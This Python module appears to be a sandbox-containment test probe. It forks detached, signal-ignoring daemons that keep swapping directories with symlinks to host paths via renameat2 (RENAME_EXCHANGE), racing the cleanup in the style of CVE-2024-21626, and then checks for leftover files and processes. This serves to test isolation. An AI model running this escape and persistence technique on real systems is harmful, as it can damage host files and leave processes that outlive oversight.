"""Swap directories for links all the time, from daemons that outlive the program.

Technique: Between looking at a path and using it, the path becomes another: renameat2(RENAME_EXCHANGE) swaps a
    directory and a link to a place of the host in one step, thousands of times a second (CVE-2024-28185,
    CVE-2024-28189 and CVE-2024-21626 are of this family). The processes ignore all signals and go on after the main
    process has ended, while its files are collected and removed.
Success: the next execution finds any of it, in its own places or in the environment that the links led to.
Stopped by: workspace, pid_namespace
"""

import signal
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2


def swap_for_ever(top, target):
    os.makedirs(f"{top}/swapped")
    for number in range(20):
        open(f"{top}/swapped/swapped-file-{number}", "w").close()
    os.symlink(target, f"{top}/other")
    a, b = f"{top}/swapped".encode(), f"{top}/other".encode()
    while True:
        syscall("renameat2", AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def leave(message):
    for top, target in (
        ("/work", canary["data_dir"]),
        ("/work/a", canary["environment"]),
        ("/tmp", "/"),
        ("/dev/shm", "/env"),
    ):
        os.makedirs(top, exist_ok=True)
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                    answer(signal.signal, number, signal.SIG_IGN)
            for fd in range(3):
                os.close(fd)
            swap_for_ever(top, target)
    time.sleep(0.1)


def find():
    found = [f"{top}/{name}" for top in ("/work", "/tmp", "/dev/shm") for name in os.listdir(top) if name != "main.py"]
    found += [
        f"{top}/{name}" for top in ("/env", "/env/lib", "/") for name in os.listdir(top) if name.startswith("swapped")
    ]
    found += [f"process {pid}" for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid())]
    return ", ".join(found)


def twin():
    """A program puts a finished directory in the place of an old one in one step."""
    for name in ("old", "new"):
        os.mkdir(f"/work/{name}")
        open(f"/work/{name}/{name}", "w").close()
    syscall("renameat2", AT_FDCWD, b"/work/old", AT_FDCWD, b"/work/new", RENAME_EXCHANGE)
    assert os.listdir("/work/old") == ["new"]
